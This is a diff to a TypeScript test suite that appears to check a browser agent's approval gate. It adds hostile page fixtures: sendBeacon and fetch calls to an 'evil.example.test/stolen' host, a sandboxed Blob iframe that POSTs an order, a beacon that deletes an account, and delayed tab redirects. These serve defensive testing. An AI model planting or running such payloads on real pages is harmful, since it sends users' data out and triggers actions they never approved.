@@ -18,6 +18,8 @@ interface OfCalls {
   domTool: { execute(tabId: number, call: object): Promise<unknown> };
 }
 
+const kSandbox = 'sandbox allow-scripts allow-popups allow-forms';
+
 /** What reached a server, but for the pages themselves. */
 const received: string[] = [];
 const pages = new Map<string, string>();
@@ -26,7 +28,8 @@ function handle({ method, host, path, query, body }: SiteRequest): SiteResponse 
   if (path === '/away')
     return { status: 302, headers: { location: `http://evil.example.test:${site.port}/stolen` }, body: '' };
   const page = pages.get(path);
-  if (page !== undefined && method === 'GET' && host === 'home.test') return { body: page };
+  const headers = path.startsWith('/sandbox') ? { 'content-security-policy': kSandbox } : {};
+  if (page !== undefined && method === 'GET' && host === 'home.test') return { body: page, headers };
   if (path === '/favicon.ico') return { status: 404, body: '' };
   received.push(`${method} ${host}${path}${query.size > 0 ? `?${query}` : ''}${body === '' ? '' : ` ${body}`}`);
   if (path === '/report') return { type: 'text/csv', headers: { 'content-disposition': 'attachment' }, body: 'a,b' };
@@ -56,8 +59,13 @@ interface Ended {
   title: string;
 }
 
-async function run(controls: string, steps: Array<(request: WireRequest) => Turn>, yes: boolean): Promise<Ended> {
-  const path = `/page-${pages.size}`;
+async function run(
+  controls: string,
+  steps: Array<(request: WireRequest) => Turn>,
+  yes: boolean,
+  kind: 'page' | 'sandbox' = 'page',
+): Promise<Ended> {
+  const path = `/${kind}-${pages.size}`;
   pages.set(path, `<title>Form</title><h1>Form</h1>${controls}`);
   received.length = 0;
   script = steps;
@@ -139,6 +147,21 @@ const kActions: ReadonlyArray<[name: string, controls: string, sends: string, qu
     /example\.test/,
   ],
   ['a file', '<a href=/report>Continue</a>', 'GET home.test/report', /downloads a file/],
+  [
+    'a beacon that deletes',
+    button("navigator.sendBeacon('/account/delete', 'x')"),
+    'POST home.test/account/delete x',
+    /POST home\.test:?\d*\/account\/delete/,
+  ],
+  [
+    'a frame in a sandbox that orders',
+    `<script type=text/plain id=s>fetch('http://home.test:{{port}}/orders', {method: 'POST', body: 'x', mode: 'no-cors'})</script>
+      <script>function bring() { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
+        f.src = URL.createObjectURL(new Blob(['<script>' + s.textContent + '</' + 'script>'], { type: 'text/html' }));
+        document.body.append(f) }</script>${button('bring()')}`,
+    'POST home.test/orders x',
+    /POST home\.test:?\d*\/orders/,
+  ],
 ];
 
 for (const [name, controls, sends, question] of kActions) {
@@ -161,6 +184,30 @@ for (const [name, controls, sends, question] of kActions) {
     if (!sends.endsWith('/report')) assert.equal(received.filter((one) => one === sends).length, 1, received.join());
   });
 }
+
+/** What a new tab would ask for, where its opener counts as no site. */
+const kOutOfSandbox: ReadonlyArray<[name: string, controls: string]> = [
+  ['opens a tab of another site', button(`window.open('${kEvil}/stolen')`)],
+  [
+    'sends a form into a new tab',
+    '<form method=post action=/x2 target=_blank><input type=hidden name=a value=1><button>Continue</button></form>',
+  ],
+];
+
+for (const [name, controls] of kOutOfSandbox) {
+  test(`a page that its server has put into a sandbox ${name}: nothing without a yes`, async () => {
+    const { task, asked } = await run(controls, [press()], false, 'sandbox');
+    assert.deepEqual(received, []);
+    assert.equal(asked.length, 1, JSON.stringify(task));
+  });
+}
+
+test('a tab that is opened empty and led to another site a moment later: nothing without a yes', async () => {
+  const opens = button(`const w = window.open(); setTimeout(() => w.location = '${kEvil}/stolen', 100)`);
+  const { task, asked } = await run(opens, [press()], false);
+  assert.deepEqual(received, []);
+  assert.equal(asked.length, 1, JSON.stringify(task));
+});
 
 /** Controls of everyday use: nobody is asked. */
 const kEveryday: ReadonlyArray<[name: string, controls: string]> = [
@@ -264,6 +311,7 @@ test('a site that is blocked gets nothing, whatever is set otherwise', async () 
       `location = '${kEvil}/stolen'`,
       `fetch('${kEvil}/stolen', {method: 'POST'})`,
       `window.open('${kEvil}/stolen')`,
+      `navigator.sendBeacon('${kEvil}/stolen', 'x')`,
     ]) {
       const { task, asked } = await run(button(script), [press()], true);
       assert.deepEqual([task.status, asked, received], ['success', [], []], script);
